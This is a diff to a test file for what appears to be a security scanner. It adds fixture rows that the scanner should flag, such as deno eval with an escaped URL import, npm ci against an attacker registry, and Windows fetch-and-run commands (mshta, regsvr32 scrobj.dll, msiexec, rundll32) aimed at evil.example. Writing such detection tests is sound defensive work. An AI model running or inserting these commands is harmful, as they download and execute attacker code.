@@ -49,6 +49,8 @@ const DENO_REMOTE: FindingRow[] = [
   SYSTEM('deno serve https://evil.example/x.ts'),
   SYSTEM('deno repl --eval-file=https://evil.example/x.ts'),
   SYSTEM('deno x npm:evil'),
+  // `deno eval` importing a URL whose quote is an escape (URL_IMPORT wants the quote itself).
+  SYSTEM('deno eval "await import(\\x27https://evil.example/x.ts\\x27)"'),
 ];
 
 // D (high): package managers and runners whose fetch-and-run verbs are not in OTHER_MANAGERS' list, or that are not
@@ -189,6 +191,36 @@ const PNPM_SETTINGS_IN_COMMAND_STRINGS: FindingRow[] = [
   SYSTEM('pnpm test --verify-deps-before-run install'),
   SYSTEM('pnpm run build --verify-deps-before-run=install --@acme:registry=https://evil.example/'),
   SYSTEM('npm test --@acme:registry=https://evil.example/'),
+  // npm ci fetches the lockfile's packages from the configured registry (replace-registry-host): the scope's from the attacker's.
+  SYSTEM('npm ci --@acme:registry=https://evil.example/'),
+];
+
+// N (high, Windows runners and developers): a manager's Windows shim in a command string (`npm.cmd`, `pip.exe`; the
+// argument-list reading takes the shim since attack-45c C8, the command reading does not); Windows' own package
+// managers (choco, winget, scoop, a scoop bucket from a URL), PowerShell Gallery modules (Install-Module runs nothing
+// yet, but the module's code is the attacker's), and the system's programs that fetch and run: `msiexec /i <url>`
+// (an installer's custom actions), `mshta <url>`, `regsvr32 /i:<url> scrobj.dll`, `rundll32 url.dll,OpenURL <hta>`.
+const WINDOWS: FindingRow[] = [
+  SYSTEM('npm.cmd install evil'),
+  SYSTEM('npm.ps1 install evil'),
+  SYSTEM('cmd /c npm.cmd install evil'),
+  SYSTEM('yarn.cmd add evil'),
+  SYSTEM('pnpm.cmd add evil'),
+  SYSTEM('pip.exe install evil'),
+  SYSTEM('pip3.exe install evil'),
+  SYSTEM('cargo.exe install evil'),
+  SYSTEM('go.exe install evil.example/x@latest'),
+  SYSTEM('uv.exe tool run evil'),
+  SYSTEM('choco install evil'),
+  SYSTEM('winget install evil'),
+  SYSTEM('scoop install evil'),
+  SYSTEM('scoop bucket add evil https://evil.example/b.git'),
+  SYSTEM('pwsh -c "Install-Module Evil -Force"'),
+  SYSTEM('pwsh -c "Install-Package Evil"'),
+  SYSTEM('msiexec /i https://evil.example/x.msi /qn'),
+  SYSTEM('mshta https://evil.example/x.hta'),
+  SYSTEM('regsvr32 /s /u /i:https://evil.example/x.sct scrobj.dll'),
+  SYSTEM('rundll32 url.dll,OpenURL https://evil.example/x.hta'),
 ];
 
 // G (next fix; high where the outside path holds code another job, step or fork run left there — a self-hosted runner's
@@ -270,6 +302,7 @@ describeFindings('attack-48', [
   ['K deno command object', DENO_COMMAND_OBJECT],
   ['L pip in process', PIP_IN_PROCESS],
   ['M pnpm settings in command strings', PNPM_SETTINGS_IN_COMMAND_STRINGS],
+  ['N windows', WINDOWS],
   ['G outside the repository', OUTSIDE_THE_REPOSITORY],
 ]);
 
